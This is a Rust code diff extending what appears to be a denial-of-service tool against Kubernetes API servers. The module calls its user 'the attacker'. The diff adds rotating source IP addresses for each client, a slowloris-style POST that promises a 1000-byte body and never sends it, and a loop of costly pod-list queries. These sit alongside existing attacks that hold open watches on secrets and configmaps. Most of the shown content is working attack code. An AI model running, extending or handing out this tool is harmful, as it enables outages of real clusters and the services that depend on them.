@@ -1,6 +1,7 @@
 //! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker one task and one socket.
 
 use std::collections::VecDeque;
+use std::net::Ipv4Addr;
 use std::sync::Arc;
 use std::time::Duration;
 
@@ -54,13 +55,14 @@ pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
     if scene.flags.attack == Attack::Exact {
         clients.spawn(writes::follow_versions(scene.clone(), versions.clone()));
     }
-    for _ in 0..scene.flags.clients {
+    for number in 0..scene.flags.clients {
         let (scene, versions) = (scene.clone(), versions.clone());
         clients.spawn(async move {
             let mut is_first = true;
             loop {
                 scene.pace.turn().await;
-                let outcome = client(&scene, &versions, &mut is_first).await;
+                let source = scene.source(number);
+                let outcome = client(&scene, &versions, source, &mut is_first).await;
                 if std::mem::take(&mut is_first) {
                     count(&scene.counts.started);
                 }
@@ -75,16 +77,33 @@ pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
 }
 
 /// One connection, until it ends; an error if it was refused.
-async fn client(scene: &AttackState, versions: &RecentVersions, is_first: &mut bool) -> Result<()> {
+async fn client(
+    scene: &AttackState,
+    versions: &RecentVersions,
+    source: Ipv4Addr,
+    is_first: &mut bool,
+) -> Result<()> {
     let attack = scene.flags.attack;
     let is_small = matches!(attack, Attack::SlowLists | Attack::Stalled);
     let address = scene.target.address;
     let buffer = is_small.then_some(SMALL_BUFFER);
-    let socket = source_socket(address, scene.flags.source, buffer)?;
+    let socket = source_socket(address, source, buffer)?;
     let mut stream = connect_socket(address, socket).await?;
     let _open = OpenConnection::of(scene);
     let path = match attack {
-        Attack::Exact => return repeat(scene, versions, stream, is_first).await,
+        Attack::Exact | Attack::NameSelectors => {
+            return repeat(scene, versions, stream, is_first).await;
+        }
+        Attack::HalfBodies => {
+            stream
+                .write_all(&half_body(&scene.target.authority))
+                .await?;
+            if std::mem::take(is_first) {
+                count(&scene.counts.started);
+            }
+            read(&mut stream, None).await;
+            return Ok(());
+        }
         Attack::SlowLists => "/api/v1/pods?resourceVersion=0",
         Attack::Descriptors => "/api/v1/secrets?watch=1",
         Attack::Stalled => "/api/v1/namespaces/default/configmaps?watch=1",
@@ -130,7 +149,16 @@ async fn read(stream: &mut TcpStream, every: Option<Duration>) {
     }
 }
 
-/// Reads one pod at an old version, again and again.
+/// A write whose body does not come.
+fn half_body(authority: &str) -> Vec<u8> {
+    let path = "/api/v1/namespaces/default/configmaps";
+    format!(
+        "POST {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{"
+    )
+    .into_bytes()
+}
+
+/// Reads one pod at an old version, or by its name, again and again.
 async fn repeat(
     scene: &AttackState,
     versions: &RecentVersions,
@@ -139,12 +167,15 @@ async fn repeat(
 ) -> Result<()> {
     loop {
         scene.pace.turn().await;
-        let Some(version) = versions.oldest() else {
-            continue;
+        let path = match (scene.flags.attack, versions.oldest()) {
+            (Attack::NameSelectors, _) => {
+                "/api/v1/pods?resourceVersion=0&fieldSelector=metadata.name%3Dnobody".to_owned()
+            }
+            (_, Some(version)) => format!(
+                "/api/v1/namespaces/default/pods?limit=1&resourceVersion={version}&resourceVersionMatch=Exact"
+            ),
+            (_, None) => continue,
         };
-        let path = format!(
-            "/api/v1/namespaces/default/pods?limit=1&resourceVersion={version}&resourceVersionMatch=Exact"
-        );
         stream
             .write_all(&scene.target.fetch_text_as(&path, "application/json"))
             .await?;
